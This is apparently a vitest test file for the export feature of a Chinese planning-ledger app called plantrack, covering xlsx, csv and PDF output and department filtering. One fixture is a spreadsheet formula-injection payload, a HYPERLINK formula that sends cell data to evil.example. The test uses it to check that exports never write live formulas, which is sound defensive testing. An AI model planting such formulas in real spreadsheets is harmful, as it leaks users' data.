import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findEntryData, readZipDirectory } from '../src/shared/zip-directory.js';
import { emptyLedgerRow, readLedgerWorkbook, writeLedgerWorkbook } from '../src/io/ledger-xlsx/index.js';
import type { LedgerKind, LedgerRow } from '../src/io/ledger-xlsx/index.js';
import { samplePlan } from '../src/seed/load-sample-plan.js';
import { buildItem, buildUser, TEST_PASSWORD } from './support/factories.js';
import type { OfficeFixture } from './support/ledger-fixtures.js';
import { buildOfficeWithoutItems, convertWithLibreOffice, departmentIdOf } from './support/ledger-fixtures.js';
import { postMultipart } from './support/multipart.js';
import { A3_LANDSCAPE, findCollisions, pageSize, readPdfCompactText, readPdfWords } from './support/pdf-layout.js';
import { cliEnvironment, runPlantrack, SLOW_TEST_MS } from './support/run-plantrack.js';
import type { Session, TestApp } from './support/test-app.js';
import { createTestApp, loginAs } from './support/test-app.js';

const example = readFileSync(new URL('../src/io/ledger-xlsx/fixtures/example-master-ledger.xlsx', import.meta.url));
const areaTitle = (code: string) => samplePlan.areas.find((area) => area.code === code)!.title;
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
let t: TestApp;
let fixture: OfficeFixture;
let hq: Session;
let leaderId: number;

/** Ledgers with every field a ledger can carry, in the names the plan uses. */
const LEDGERS: Partial<Record<LedgerKind, LedgerRow[]>> = {
  master: [
    {
      ...emptyLedgerRow('1-31', '建设科技成果转化示范基地'),
      areaNumeral: '一',
      areaTitle: areaTitle('1'),
      measures: '第一行措施；\n=第二行以等号开头',
      targets: '+研发投入强度2.8%',
      yearKeyWork: '新增高企100家',
      leaderName: '张三',
      leadDepartments: ['市科技局'],
      coDepartments: ['市发展改革委', '市财政局'],
      section: '规划科',
      staffName: '李四',
      staffPhone: '0631-1234567',
      deadlineText: '2024年6月底前',
      deadline: '2024-06-30',
      remarks: '@备注',
      quarterlyPlans: [
        { period: '2024Q1', milestone: '启动实施', cumulativePercent: null, basis: null },
        { period: '2024Q2', milestone: '完成年度任务的50%', cumulativePercent: 50, basis: 'annual' },
      ],
    },
    {
      ...emptyLedgerRow('2-31', '实施中小企业数字化转型专项行动'),
      areaNumeral: '二',
      areaTitle: areaTitle('2'),
      leadDepartments: ['市工业和信息化局'],
      deadlineText: '长期坚持',
    },
  ],
  key_indicators: [
    { ...emptyLedgerRow('I-02', '高价值发明专利拥有量'), unit: '件', targetRule: '较基期翻番', leadDepartments: ['市市场监管局'] },
    {
      ...emptyLedgerRow('I-01', '研发经费投入强度'),
      areaNumeral: '一',
      areaTitle: areaTitle('1'),
      unit: '%',
      baselineYear: 2020,
      baselineValue: '2.40',
      provinceTarget: '2.6',
      stretchTarget: '3',
      target: '2.8',
      targetQualifier: '左右',
      yearlyTargets: [
        { year: 2023, value: '2.5' },
        { year: 2024, value: '2.65' },
      ],
      leadDepartments: ['市科技局'],
    },
  ],
  pilots: [
    {
      ...emptyLedgerRow('4-31', '创建国家生态文明建设示范区'),
      areaNumeral: '四',
      areaTitle: areaTitle('4'),
      pilotLevel: 'national',
      pilotStage: 'under_review',
      leadDepartments: ['市生态环境局'],
      deadlineText: '2025年底前',
      deadline: '2025-12-31',
    },
  ],
};

beforeAll(async () => {
  t = await createTestApp();
  fixture = await buildOfficeWithoutItems(t.db);
  hq = await loginAs(t.app, (await buildUser(t.db, fixture, 'hq')).username, TEST_PASSWORD);
  const stamps = { createdAt: new Date().toISOString(), updatedAt: new Date().toISOString() };
  const leader = {
    organisationId: fixture.organisationId,
    kind: 'leader' as const,
    name: '张三',
    title: '副市长',
    phone: null,
    departmentId: null,
    sectionId: null,
  };
  leaderId = (
    await t.db
      .insertInto('people')
      .values({ ...leader, ...stamps })
      .returning('id')
      .executeTakeFirstOrThrow()
  ).id;
  await commitImport('master', example);
  for (const [kind, rows] of Object.entries(LEDGERS) as [LedgerKind, LedgerRow[]][]) {
    await commitImport(kind, await writeLedgerWorkbook({ kind, title: '台账', rows, years: [2024] }));
  }
  // Text that would run as a formula if a spreadsheet took it as one.
  await buildItem(t.db, fixture, { code: 'X-01', title: HOSTILE, measures: '+1+1\n-2+3', ledgers: ['innovations'] });
});
afterAll(async () => t.close());

async function commitImport(kind: LedgerKind, file: Buffer) {
  const response = await postMultipart(t.app, hq, '/api/imports/commit', [
    { field: 'ledger', content: kind },
    { field: 'file', fileName: 'ledger.xlsx', content: file },
  ]);
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
}

async function exportOf(session: Session, query: string) {
  const response = await session.get(`/api/exports/ledger?${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

async function codesIn(file: Buffer, kind: LedgerKind = 'master'): Promise<string[]> {
  const read = await readLedgerWorkbook(file, { kind });
  // An export that matched no item is a header without rows, which the reader calls empty.
  expect(read.problems.filter((problem) => problem.code !== 'EMPTY_WORKBOOK')).toEqual([]);
  return read.rows.map((row) => row.code);
}

describe('exporting a ledger', () => {
  it('gives back, once imported again, the same ledger: every field of every kind, and nothing to change', async () => {
    const { rows: exampleRows } = await readLedgerWorkbook(example, { kind: 'master' });
    const expected: Partial<Record<LedgerKind, LedgerRow[]>> = { ...LEDGERS, master: [...exampleRows, ...LEDGERS.master!] };
    for (const [kind, rows] of Object.entries(expected) as [LedgerKind, LedgerRow[]][]) {
      const exported = (await exportOf(hq, `ledger=${kind}`)).rawPayload;
      const reread = await readLedgerWorkbook(exported, { kind });
      expect(reread.problems, kind).toEqual([]);
      expect(sortByCode(reread.rows), kind).toEqual(sortByCode(rows));
      const preview = (
        await postMultipart(t.app, hq, '/api/imports/preview', [
          { field: 'ledger', content: kind },
          { field: 'file', fileName: 'export.xlsx', content: exported },
        ])
      ).json();
      expect(preview, kind).toMatchObject({ problems: [], creates: [], updates: [] });
      expect(preview.unchanged, kind).toHaveLength(rows.length);
    }
  });

  it('gives a department only its own items, and filters by department (any alias), leader, area and computed status', async () => {
    const scienceId = await departmentIdOf(t.db, fixture, '市科技局');
    const own = await t.db
      .selectFrom('items')
      .innerJoin('ledgerItems', 'ledgerItems.itemId', 'items.id')
      .select('items.code')
      .where('ledgerItems.ledgerId', '=', fixture.ledgerIds.master)
      .where((eb) =>
        eb.or([
          eb('items.leadDepartmentId', '=', scienceId),
          eb.exists(eb.selectFrom('itemCoDepartments').select('itemId').whereRef('itemId', '=', 'items.id').where('departmentId', '=', scienceId)),
        ]),
      )
      .execute();
    const ownCodes = own.map((row) => row.code).sort();
    expect(ownCodes.length).toBeGreaterThan(1);
    const manager = await loginAs(t.app, (await buildUser(t.db, fixture, 'dept_manager', scienceId)).username, TEST_PASSWORD);
    expect((await codesIn((await exportOf(manager, 'ledger=master')).rawPayload)).sort()).toEqual(ownCodes);
    expect((await codesIn((await exportOf(hq, `ledger=master&department=${encodeURIComponent('市科学技术局')}`)).rawPayload)).sort()).toEqual(ownCodes);
    expect(await codesIn((await exportOf(hq, `ledger=master&leader=${leaderId}`)).rawPayload)).toEqual(['1-31']);
    const area2 = await codesIn((await exportOf(hq, 'ledger=master&area=2')).rawPayload);
    expect(area2.length).toBeGreaterThan(1);
    expect(area2.every((code) => code.startsWith('2-'))).toBe(true);
    // No report was approved and no cycle closed: the 2023Q2 milestones (50% of the year's task) are not yet
    // due, so every item is held to the quarter before (about 25% of the year's task) and lags slightly,
    // as does 1-31 (16% of its whole task due by 31 March).
    // The ongoing task without milestones had only 8% due by the end of 2023Q1.
    expect(await codesIn((await exportOf(hq, 'ledger=master&status=on_schedule&asOf=2023Q2')).rawPayload)).toEqual(['2-31']);
    expect(await codesIn((await exportOf(hq, 'ledger=master&status=seriously_behind&asOf=2023Q2')).rawPayload)).toEqual([]);
    expect(await codesIn((await exportOf(hq, 'ledger=master&status=slightly_behind&asOf=2023Q2')).rawPayload)).toHaveLength(43);
  });

  it('writes no cell that can act as a formula, names the file in UTF-8, writes CSV with a BOM, and audits the export', async () => {
    const response = await exportOf(hq, 'ledger=innovations');
    expect(response.headers['content-type']).toContain('spreadsheetml');
    const disposition = String(response.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="ledger-innovations-\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toMatch(/^威海市推动绿色低碳高质量发展25项创新性工作台账_\d{4}-\d{2}-\d{2}\.xlsx$/);
    const file = response.rawPayload;
    expect(sheetXml(file)).not.toMatch(/<f[ >]/);
    const reread = await readLedgerWorkbook(file, { kind: 'innovations' });
    expect(reread.rows.find((row) => row.code === 'X-01')).toMatchObject({ title: HOSTILE, measures: '+1+1\n-2+3' });

    const csv = (await exportOf(hq, 'ledger=innovations&format=csv')).rawPayload;
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString('utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);

    const audit = await t.db
      .selectFrom('auditLog')
      .selectAll()
      .where('organisationId', '=', fixture.organisationId)
      .where('action', '=', 'ledger.export')
      .orderBy('id')
      .execute();
    expect(audit.length).toBeGreaterThanOrEqual(2);
    expect(JSON.parse(audit.at(-1)!.after!)).toMatchObject({ ledger: 'innovations', format: 'csv', itemCount: 1 });
  });

  it(
    'opens in LibreOffice with text that starts like a formula shown as typed, without an apostrophe, and never evaluated',
    async () => {
      const file = (await exportOf(hq, 'ledger=innovations')).rawPayload;
      // "Save cell contents as shown", formulas not exported: a formula would appear as its result (点击).
      const asCsv = await convertWithLibreOffice(file, 'xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false');
      const text = asCsv.toString('utf8');
      expect(text).toContain('威海市推动绿色低碳高质量发展25项创新性工作台账');
      expect(text).toContain(`"=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
      expect(text).toContain('"+1+1\n-2+3"');
      expect(text).not.toContain("'=HYPERLINK");
      expect(text).not.toContain("'+1+1");
    },
    SLOW_TEST_MS,
  );

  it(
    'prints on A3 landscape with every row tall enough for its text: all of it on the page, no line over another',
    async () => {
      // As of 2025 the ledger has three years of quarter columns: too wide for one page across.
      const file = (await exportOf(hq, 'ledger=master&asOf=2025Q1')).rawPayload;
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(new Uint8Array(file).buffer);
      workbook.worksheets[0]!.eachRow((row, number) => expect(row.height, `row ${number}`).toBeGreaterThan(0));
      const pdf = await convertWithLibreOffice(file, 'xlsx', 'pdf');
      const pages = await readPdfWords(pdf);
      expect(pages.length).toBeGreaterThan(1);
      for (const page of pages) {
        expect(pageSize(page)).toEqual(A3_LANDSCAPE);
        expect(findCollisions(page)).toEqual([]);
      }
      // Pages across repeat 编号 and 重点任务: the code 1-01 is on the first page and on the quarters' page.
      expect(pages.filter((page) => page.words.some((word) => word.text.startsWith('1-01')))).toHaveLength(2);
      const printed = await readPdfCompactText(pdf);
      const { rows } = await readLedgerWorkbook(file, { kind: 'master' });
      expect(rows.length).toBeGreaterThan(40);
      for (const row of rows) {
        for (const text of [row.code, row.title, row.measures, row.targets, ...row.quarterlyPlans.map((plan) => plan.milestone)]) {
          if (text) expect(printed, `${row.code}: ${text}`).toContain(text.replace(/\s+/g, ''));
        }
      }
    },
    SLOW_TEST_MS,
  );

  it(
    'plantrack export writes a department’s ledger to .xlsx and to .csv',
    async () => {
      const env = cliEnvironment(t.database.target);
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plantrack-export-'));
      const xlsx = path.join(dir, '科技局.xlsx');
      const result = await runPlantrack(
        env,
        'export',
        '--ledger',
        'master',
        '--department',
        '市科技局',
        '--out',
        xlsx,
        '--organisation',
        fixture.organisationCode,
      );
      expect(result.code, result.stderr).toBe(0);
      const codes = await codesIn(fs.readFileSync(xlsx));
      expect(codes).toContain('1-31');
      expect(codes).not.toContain('2-31');
      const csv = path.join(dir, 'pilots.csv');
      const csvResult = await runPlantrack(env, 'export', '--ledger', 'pilots', '--out', csv, '--organisation', fixture.organisationCode);
      expect(csvResult.code, csvResult.stderr).toBe(0);
      const text = fs.readFileSync(csv, 'utf8');
      expect(text.charCodeAt(0)).toBe(0xfeff);
      expect(text).toContain('创建国家生态文明建设示范区');
      fs.rmSync(dir, { recursive: true, force: true });
    },
    SLOW_TEST_MS,
  );
});

function sortByCode(rows: readonly LedgerRow[]): LedgerRow[] {
  return [...rows].sort((a, b) => a.code.localeCompare(b.code));
}

/** The raw XML of every worksheet, to check no <f> (formula) element was written. */
function sheetXml(xlsx: Buffer): string {
  const directory = readZipDirectory(xlsx, 1000);
  if (!directory.ok) throw new Error(directory.reason);
  return directory.entries
    .filter((entry) => entry.name.startsWith('xl/worksheets/') && entry.name.endsWith('.xml'))
    .map((entry) => inflateRawSync(findEntryData(xlsx, entry) ?? Buffer.alloc(0)).toString('utf8'))
    .join('');
}
